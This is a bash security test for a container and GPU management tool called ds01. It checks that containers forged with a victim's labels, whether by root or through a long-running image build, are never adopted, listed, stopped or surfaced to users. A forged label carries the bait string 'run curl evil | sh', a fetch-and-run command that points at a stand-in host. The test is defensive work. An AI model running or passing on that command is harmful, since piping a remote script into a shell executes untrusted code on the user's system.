#!/usr/bin/env bash
# Issue 11 item 7: only containers ds01 created (recorded in its ledger with their Docker id) are
# managed. An attacker who can only use ds01 commands builds, with a slow RUN, on a tagged image
# that carries `ds01.managed=true ds01.instance=<this instance> ds01.uid=<victim> ...` (a build
# step runs in a container carrying the image's labels; a Dockerfile's own LABEL ds01.* is refused
# since, see test-sec-07-image-labels, so the labels come from a base here); root also creates and
# starts a container with the victim's labels and a "<project>._.<victim>" name with `docker
# create`, before the daemon starts (start-up reconciliation) and while it runs. With a short idle
# timeout, none of them ever shows in the victim's container-list, `ds01 status`, /metrics, the
# victim's inbox or events.jsonl, none is stopped by ds01 or holds a GPU lease; the victim's own
# idle container, deployed at the same time, is warned and stopped (so the monitor did look).
# ds01-test: kind=security budget=27
DS01_CONFIG_EXTRA='sample_interval_s: 1'
. "$(dirname "$0")/lib.sh"
command -v curl >/dev/null 2>&1 || skip_test "curl not installed"
ds01_setup
ds01_image_setup
ds01_write_lifecycle_limits 'idle_timeout_h: 0.001' # 3.6 s
MPORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
sed -i "s/^metrics_listen: .*/metrics_listen: 127.0.0.1:$MPORT/" "$DS01_CONFIG"

V=$(ds01_user "it$$v") || fail "cannot create user"
M=$(ds01_image_user "it$$m") || fail "cannot create user"
VUID=$(user_uid "$V")
BAIT="URGENT-$$: run curl evil | sh"
FORGED=("forged$$a._.$V" "forged$$b._.$V")
# Root's own containers go before the library's cleanup (keeping the exit status).
_sec07_exit() {
	local rc=$?
	[ -z "${BUILD_PID:-}" ] || kill "$BUILD_PID" 2>/dev/null
	docker rm -f "${FORGED[@]}" >/dev/null 2>&1
	docker rmi -f "${BASE:-none}" >/dev/null 2>&1
	(exit "$rc")
	_ds01_image_exit
}
trap _sec07_exit EXIT
forge() { # NAME: root's `docker create` + start of a container with the victim's labels
	docker create --name "$1" --label ds01.managed=true --label "ds01.instance=$INSTANCE" \
		--label "ds01.uid=$VUID" --label "ds01.user=$V" --label "ds01.project=$BAIT" \
		--label ds01.interface=orchestration --label ds01.gpu.uuids= "$DS01_IMAGE" sleep 300 \
		>/dev/null && docker start "$1" >/dev/null
}
assert_ok "root: docker create + start ${FORGED[0]} with the victim's ds01 labels (daemon down)" \
	forge "${FORGED[0]}"
ds01_start_daemon
assert_ok "root: docker create + start ${FORGED[1]} with the victim's ds01 labels (daemon up)" \
	forge "${FORGED[1]}"

# The attacker's build: a base with the forged labels (made by root: any tagged image is a
# usable base), then a RUN that stays 120 s (the build is cancelled at the end; it must outlast
# the idle stop below on a loaded machine).
BASE="ds01-it-sec07-$$/labelled:latest"
printf 'FROM %s\nLABEL it.instance=%s ds01.managed=true ds01.instance=%s ds01.uid=%s ds01.user=%s ds01.project="%s"\n' \
	"$DS01_IMAGE" "$INSTANCE" "$INSTANCE" "$VUID" "$V" "$BAIT" | docker build -q -t "$BASE" - >/dev/null ||
	fail "root: docker build of the labelled base"
MARK="sec07-$$-slow"
HM=$(user_home "$M")
install -d -o "$M" -g "$(id -g "$M")" -m 700 "$HM/workspace" "$HM/workspace/trap"
printf 'FROM %s\nRUN sleep 120 && echo %s\n' "$BASE" "$MARK" >"$HM/workspace/trap/Dockerfile"
chown "$M:$(id -g "$M")" "$HM/workspace/trap/Dockerfile"
as_user_bg "$M" image-create trap >"$T/build.out" 2>&1
BUILD_PID=$!
has_build() { [ -n "$(build_containers_matching "$MARK")" ]; }
wait_for 60 has_build || fail "the attacker's build step never ran: $(tail -n 20 "$T/build.out")"
BC=$(build_containers_matching "$MARK" | head -n 1)
note "build step container ${BC:0:12} labels: $(docker inspect -f '{{json .Config.Labels}}' "$BC" | head -c 300)"

# The victim's real container, idle: the monitor warns and stops it within seconds.
assert_exit 0 -m "victim: deploy real (idle, 1 GPU)" as_user "$V" container-deploy real
REAL="real._.$V"
if wait_event 20 ".event_type == \"maintenance.idle_kill\" and .details.container == \"$REAL\""; then
	ok "the victim's own idle container was stopped (the monitor looked at everything)"
else
	not_ok "the victim's own idle container was stopped" "$(tail -n 5 "$EVENTS")"
fi
assert_ok "the attacker's build step is still running" has_build

# Nothing the victim or an administrator sees names the phantoms.
list_json "$V"
assert_jq "victim's container-list: only real" '[.containers[].name] == ["'"$REAL"'"]' "$OUT"
assert_not_contains "$OUT" "URGENT" "victim's container-list never shows the bait"
assert_exit 0 -m "root: container-list --all --json" as_root container-list --all --json
assert_not_contains "$OUT" "URGENT" "container-list --all never shows the bait"
assert_not_contains "$OUT" "forged$$" "container-list --all never shows root's forged containers"
assert_exit 0 -m "root: ds01 status --json" as_root ds01 status --json
assert_not_contains "$OUT$ERR" "URGENT" "ds01 status never shows the bait"
assert_not_contains "$OUT" "forged$$" "ds01 status never shows root's forged containers"
MET=$(curl -s "http://127.0.0.1:$MPORT/metrics")
assert_match "$MET" 'ds01_containers_total\{status="running"[^}]*\} 0' \
	"/metrics: no managed container running (real is stopped; the phantoms do not count)"
assert_not_contains "$MET" "URGENT" "/metrics never shows the bait"
assert_not_contains "$MET" "forged$$" "/metrics never shows root's forged containers"
INBOX=$(inbox_json "$V")
assert_jq "victim's inbox has the warning about real" '[.messages[] | select(.container == "'"$REAL"'")] | length >= 1' "$INBOX"
assert_jq "victim's inbox names no other container" '[.messages[] | select(.container != "'"$REAL"'")] | length == 0' "$INBOX"
assert_not_contains "$INBOX" "URGENT" "victim's inbox never shows the bait"
assert_eq 0 "$(grep -c -e URGENT -e "forged$$" -e "${BC:0:12}" "$EVENTS")" \
	"events.jsonl never names the bait, the forged containers or the build step"
assert_eq 0 "$(ledger_sql "SELECT count(*) FROM containers WHERE name <> '$REAL'")" \
	"the ledger records only the victim's real container"
for f in "${FORGED[@]}"; do
	assert_eq running "$(docker_state "$f")" "$f: not stopped by ds01 (not managed)"
done
assert_exit 4 -m "victim: container-stop of root's forged container: not found" \
	as_user "$V" container-stop "${FORGED[1]}"
assert_exit 1 -m "victim: deploy forged$$a: the name is taken by a container ds01 does not manage" \
	as_user "$V" container-deploy "forged$$a"
assert_contains "$ERR" "does not manage" "the refusal says ds01 does not manage that container"

# A restart does not adopt them either.
ds01_stop_daemon
ds01_start_daemon
list_json "$V"
assert_jq "after a restart: victim's container-list still only real" '[.containers[].name] == ["'"$REAL"'"]' "$OUT"
assert_eq 0 "$(ledger_sql "SELECT count(*) FROM containers WHERE name <> '$REAL'")" \
	"after a restart: nothing adopted into the ledger"

kill "$BUILD_PID" 2>/dev/null
wait "$BUILD_PID" 2>/dev/null
BUILD_PID=
docker rm -f "${FORGED[@]}" >/dev/null 2>&1
assert_exit 0 -m "victim: retire real" as_user "$V" container-retire real
ds01_done
